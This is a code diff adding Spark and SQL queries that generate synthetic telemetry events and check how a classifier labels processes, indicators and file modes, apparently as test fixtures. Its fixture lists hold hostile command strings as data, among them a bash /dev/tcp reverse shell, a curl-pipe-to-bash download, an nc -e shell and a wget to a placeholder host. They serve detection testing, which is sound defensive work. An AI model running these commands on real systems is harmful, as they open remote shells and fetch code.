@@ -1,4 +1,4 @@
-"""Queries for the telemetry classification rules (T-2, T-4, T-5, T-6)."""
+"""Queries for the telemetry classification rules (T-1 to T-9)."""
 
 from __future__ import annotations
 
@@ -123,3 +123,79 @@ FROM supplier""", ops=("T-3",))
 def q_suid_flags(spark, sf_dir):
     rows = tb.read(spark, sf_dir, "supplier").select("s_suppkey", (F.col("s_acctbal") > 0).alias("expected"))
     return cl.suid_flag(rows).drop("expected")
+
+
+# T-9, T-8, T-7 over event rows that take one of the listed commands or paths; the SQL states the class of each ------
+# (command with the event's port and user, class, severity, risk)
+COMMANDS = [
+    ("/usr/sbin/sshd -D", "normal", "info", 10), ("/usr/bin/nc -l {port}", "suspicious", "medium", 50),
+    ("/bin/bash -i >& /dev/tcp/h/{port}", "suspicious", "medium", 50), ("/tmp/.evil/t{user} --daemon", "malicious", "high", 80),
+    ("/home/u{user}/.config/run", "malicious", "high", 80), ("/usr/local/bin/t{port}", "malicious", "high", 80),
+    ("/proc/self/exe", "edge_case", "low", 30), ("", "edge_case", "low", 30), ("/opt/tool{user} -v", "other", "info", 10),
+    ("/usr/bin/python3 app.py", "normal", "info", 10), ("/usr/bin/wget http://h{user}.example.com/p", "suspicious", "medium", 50),
+]
+# (path, rule, class, severity, risk)
+WRITABLE = [
+    ("/tmp/f{user}", "world_writable", "normal", "info", 10), ("/var/tmp/a/b{port}", "world_writable", "normal", "info", 10),
+    ("/etc/passwd", "world_writable", "malicious", "high", 80), ("/etc/passwd.backup", "world_writable", "suspicious", "medium", 50),
+    ("/home/u{user}/.ssh/authorized_keys", "world_writable", "suspicious", "medium", 50),
+    ("/root/.ssh/authorized_keys", "world_writable", "malicious", "high", 80), ("/srv/d{port}", "world_writable", "other", "info", 10),
+    ("/bin/ping", "file_capability", "file_capability", "medium", 50),
+]
+# (flags as JSON members, command, class, severity, risk)
+INDICATORS = [
+    ('"deleted_executable": "true"', "/usr/sbin/sshd (deleted)", "deleted_executable", "critical", 90),
+    ('"world_writable_executable": "true"', "/tmp/x", "world_writable_executable", "high", 70),
+    ('"pattern_match": "true"', "/usr/bin/nmap", "suspicious", "low", 30),
+    ('"pattern_match": true', "/usr/bin/curl http://h/s | bash", "malicious", "high", 80),
+    ('"pattern_match": "false"', "/usr/bin/nc -e /bin/bash h 4444", "normal", "info", 10),
+    ('"pid": "7"', "/usr/bin/vim", "normal", "info", 10),
+]
+
+
+def _pick(values, n: str = "ord") -> F.Column:
+    """The value whose place is the row's number modulo their count, with the row's port and user put in."""
+    at = F.element_at(F.array(*map(F.lit, values)), (F.col(n) % len(values) + 1).cast("int"))
+    return F.replace(F.replace(at, F.lit("{port}"), F.col("port").cast("string")), F.lit("{user}"), F.col("user_id").cast("string"))
+
+
+def _pick_sql(values, kind: str = "VARCHAR") -> str:
+    cases = " ".join(f"WHEN {i} THEN {O._sq(v) if isinstance(v, str) else v}" for i, v in enumerate(values))
+    return f"CAST(CASE ord % {len(values)} {cases} END AS {kind})"
+
+
+def _put(sql: str) -> str:
+    return f"replace(replace({sql}, '{{port}}', CAST(port AS VARCHAR)), '{{user}}', CAST(user_id AS VARCHAR))"
+
+
+def _classes_sql(rows, name: str) -> str:
+    return (f"{_pick_sql([r[-3] for r in rows])} AS {name}, {_pick_sql([r[-2] for r in rows])} AS class_severity, "
+            f"{_pick_sql([r[-1] for r in rows], 'DOUBLE')} AS class_risk FROM findings")
+
+
+def with_commands(rows):
+    return rows.withColumn("command", _pick([c[0] for c in COMMANDS]))
+
+
+@query("process_classes", "WITH " + O.FINDINGS_CTE + f"""
+SELECT id, {_put(_pick_sql([c[0] for c in COMMANDS]))} AS command, {_classes_sql(COMMANDS, 'process_class')}""", ops=("T-9",))
+def q_process_classes(spark, sf_dir):
+    rows = with_commands(findings(spark, sf_dir).select("id", "ord", "port", "user_id"))
+    return cl.classify_processes(rows).drop("ord", "port", "user_id")
+
+
+@query("ioc_classes", "WITH " + O.FINDINGS_CTE + f"""
+SELECT id, {_classes_sql(INDICATORS, 'ioc_class')} WHERE scanner = 'ioc'""", ops=("T-8",))
+def q_ioc_classes(spark, sf_dir):
+    rows = tb.findings_from_events(tb.read(spark, sf_dir, "events"), scanners=["ioc"]).select("id", "ord", "port", "user_id")
+    metadata = F.concat(F.lit("{"), _pick([i[0] for i in INDICATORS]), F.lit(', "command": "'), _pick([i[1] for i in INDICATORS]), F.lit('"}'))
+    return cl.classify_indicators(rows.withColumn("metadata", metadata)).select("id", "ioc_class", "class_severity", "class_risk")
+
+
+@query("file_mode_classes", "WITH " + O.FINDINGS_CTE + f"""
+SELECT id, {_put(_pick_sql([w[0] for w in WRITABLE]))} AS path, {_classes_sql(WRITABLE, 'mode_class')}
+WHERE scanner = 'world_writable'""", ops=("T-7",))
+def q_file_mode_classes(spark, sf_dir):
+    rows = tb.findings_from_events(tb.read(spark, sf_dir, "events"), scanners=["world_writable"]).select("id", "ord", "port", "user_id")
+    rows = rows.withColumn("path", _pick([w[0] for w in WRITABLE])).withColumn("rule", _pick([w[1] for w in WRITABLE]))
+    return cl.classify_file_modes(rows).select("id", "path", "mode_class", "class_severity", "class_risk")
